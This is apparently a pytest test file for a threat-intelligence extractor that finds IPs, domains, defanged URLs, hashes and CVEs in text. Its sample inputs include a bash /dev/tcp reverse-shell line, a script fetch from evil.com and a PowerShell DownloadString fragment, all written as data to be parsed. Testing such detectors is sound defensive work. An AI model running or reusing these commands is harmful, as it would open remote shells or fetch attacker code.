"""Extract: what a text names is found in order and once, what only looks so is not; work grows with the text."""

import hashlib
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cybervault.domain.observables import Kind, Observable
from cybervault.payloads import extract
from cybervault.payloads.extract import Extraction, digests_of, observables_in

MD5 = "8ed4b4ed952526d89899e723f3488de4"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def values(content: str | bytes) -> list[str]:
    return [one.value for one in observables_in(content).observables]


NAMED = [
    ("It called 203.0.113.7, then 198.51.100.2.", ["203.0.113.7", "198.51.100.2"]),
    ("to 203.0.113.7:4444 and evil.example:8080", ["203.0.113.7", "evil.example"]),
    ("ip=203.0.113.7;host:c2.evil.com", ["203.0.113.7", "c2.evil.com"]),
    ("bash -i >& /dev/tcp/203.0.113.7/4444", ["203.0.113.7"]),
    ("ssh root@203.0.113.7", ["203.0.113.7"]),
    ("block 203.0.113.0/24 (all), 2001:db8::/32.", ["203.0.113.0/24", "2001:db8::/32"]),
    ("at 203.0.113.7/99, bad.de/24", ["203.0.113.7", "bad.de"]),
    ("[2001:db8::1]:443 and 2001:DB8::2", ["2001:db8::1", "2001:db8::2"]),
    ("Evil.COM, evil.com and evil.com.", ["evil.com"]),
    ("evil.com/gate.php", ["evil.com"]),
    ("\\\\evil.com\\share\\a.exe", ["evil.com"]),
    ("münchen.de", ["xn--mnchen-3ya.de"]),
    ("mail a.b+c@evil.co.uk.", ["a.b+c@evil.co.uk"]),
    ("mailto:bad@evil.com", ["bad@evil.com"]),
    ("bad[at]evil[.]com", ["bad@evil.com"]),
    ("evil[.]com 203(.)0(.)113(.)7 c2[dot]evil[dot]org", ["evil.com", "203.0.113.7", "c2.evil.org"]),
    ("hxxps://evil[.]com/a?b=1.", ["https://evil.com/a?b=1"]),
    ("hxxp[://]evil[.]com[/]a", ["http://evil.com/a"]),
    ("see (http://evil.com/a_(b)) or http://evil.com/c).", ["http://evil.com/a_(b)", "http://evil.com/c"]),
    ("[x](https://evil.com/x)", ["https://evil.com/x"]),
    ("fetch('http://evil.com/a.js');", ["http://evil.com/a.js"]),
    ("http://a.com/x,http://b.com/y", ["http://a.com/x", "http://b.com/y"]),
    ("https://a.com/?u=http://b.com/", ["https://a.com/?u=http://b.com/", "http://b.com/"]),
    ('{"u":"http:\\/\\/evil.com\\/a"}', ["http://evil.com/a"]),
    ("u=http%3A%2F%2Fevil.com%2Fa", ["evil.com"]),
    ("http://203.0.113.7/x", ["http://203.0.113.7/x"]),
    (f"md5={MD5}, sha1:{SHA1} {SHA256.upper()}", [MD5, SHA1, SHA256]),
    ("(CVE-2021-44228; cve-2024-3094)", ["CVE-2021-44228", "CVE-2024-3094"]),
    ("hidden at abcdefghijklmnop.onion", ["abcdefghijklmnop.onion"]),
]
NOT_NAMED = [
    "",
    "version 1.2.3 and 1.2, v10.0",
    'Version=4.0.0.0, FileVersion 1.2.3.4, version="6.0.0.0"',
    "Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36",
    "kernel32.dll invoice.pdf setup.exe a.tar.gz index.html main.js",
    "install.sh, main.py, archive.zip",
    "C:\\dos\\command.com and /usr/lib/evil.com",
    "$client.DownloadString($url); System.Net.WebClient",
    "e.g. this, i.e. that ... and so on",
    "12:30:45 std::vector a::b 00:11:22:33:44:55 ::",
    "999.1.1.1 1.2.3.4.5",
    "f" * 64 + " " + "0" * 32 + " " + "ab" * 15,
    "lodash@4.17.21 @someone a@b",
    "http:// http://a http://localhost/ https://{host}/x http://$h/",
    "CVE-1 CVE-20-1",
    "AS64500",
]


@pytest.mark.parametrize(("text", "expected"), NAMED)
def test_what_a_text_names_is_found_in_its_order(text: str, expected: list[str]) -> None:
    assert values(text) == expected


@pytest.mark.parametrize("text", NOT_NAMED)
def test_what_only_looks_like_one_is_left_alone(text: str) -> None:
    assert values(text) == []


def test_the_host_of_a_url_is_not_doubled_but_stands_where_it_is_named_itself() -> None:
    assert values("http://evil.com/a http://evil.com/a") == ["http://evil.com/a"]
    assert values("http://evil.com/a evil.com") == ["http://evil.com/a", "evil.com"]


def test_kinds_are_those_of_the_domain() -> None:
    found = observables_in(f"203.0.113.7 {MD5} a@b.com").observables
    assert [one.kind for one in found] == [Kind.IPV4, Kind.MD5, Kind.EMAIL]


def test_more_than_wished_for_is_cut_and_said_so() -> None:
    text = " ".join(f"c{number}.evil.com" for number in range(5))
    assert observables_in(text, most=5).is_cut is False
    assert observables_in(f"{text} c0.evil.com", most=5).is_cut is False
    cut = observables_in(f"{text} c5.evil.com", most=5)
    assert (len(cut.observables), cut.is_cut) == (5, True)


@pytest.mark.parametrize("shape", ["{:018b}.com", "http://{}_.com:x/", "{}.com:80/"])
def test_ever_new_spellings_are_read_up_to_a_bound_and_said_to_be_cut(shape: str) -> None:
    spelled = (shape.format(number).translate({48: "a", 49: "A"}) for number in range(6000))
    assert observables_in(" ".join(spelled)).is_cut


def test_bytes_are_read_as_text_and_for_strings_of_both_widths() -> None:
    assert values(b"http://evil.com/a") == ["http://evil.com/a"]
    assert values("c2.evil.com".encode("utf-16")) == ["c2.evil.com"]
    raw = b"\x01\x02\x80\x90c1.evil.com\x00\x03" + "c2.evil.com".encode("utf-16-le") + b"\x00\x00\x04"
    assert values(raw) == ["c1.evil.com", "c2.evil.com"]


def test_digests_are_the_three_that_others_know_payloads_by() -> None:
    assert digests_of(b"abc") == (
        Observable(Kind.MD5, "900150983cd24fb0d6963f7d28e17f72"),
        Observable(Kind.SHA1, "a9993e364706816aba3e25717850c26c9cd0d89d"),
        Observable(Kind.SHA256, hashlib.sha256(b"abc").hexdigest()),
    )


@given(st.text())
def test_any_text_is_read(text: str) -> None:
    assert isinstance(observables_in(text), Extraction)
    assert isinstance(observables_in(json.dumps(text)), Extraction)


@given(
    st.lists(st.sampled_from(["http://", "hxxp", "[.]", ".", "a", ")", "]", "(", "@", ":", "/", " ", "%2F", "1", "\\"]))
)
def test_any_row_of_its_own_signs_is_read(parts: list[str]) -> None:
    assert isinstance(observables_in("".join(parts)), Extraction)


SHAPES = [
    "A/1.",
    "Version 1.1.1.1 ",
    "[2001:db8::1]/",
    "9.9.9.9/24",
    ".",
    "a",
    "f",
    "http://",
    "http://a.b",
    "=http://a.com",
    "[.]",
    "a[.]com ",
    "a.com ",
    "a@",
    ":",
    "1.",
    "1.1.1.1 ",
    ")",
    "/",
    "\\",
    "%2F",
]


def work(text: str) -> tuple[int, int]:
    """How many candidates are looked at, and how many characters they have together."""
    found = list(extract._candidates(text))
    return len(found), sum(map(len, found))


@pytest.mark.parametrize("shape", SHAPES)
def test_twice_the_text_is_at_most_twice_the_work(shape: str) -> None:
    text = shape * (2**14 // len(shape))
    (count, characters), (count_twice, characters_twice) = work(text), work(text * 2)
    assert count_twice <= 2 * count + 4
    assert characters_twice <= 2 * characters + 4096
    assert characters <= 2 * len(text) + 4096


@pytest.mark.parametrize("shape", SHAPES)
def test_a_long_text_of_a_hostile_shape_is_read_to_its_end(shape: str) -> None:
    text = shape * (2**18 // len(shape))
    assert values(f"{text} CVE-2021-44228")[-1] == "CVE-2021-44228"
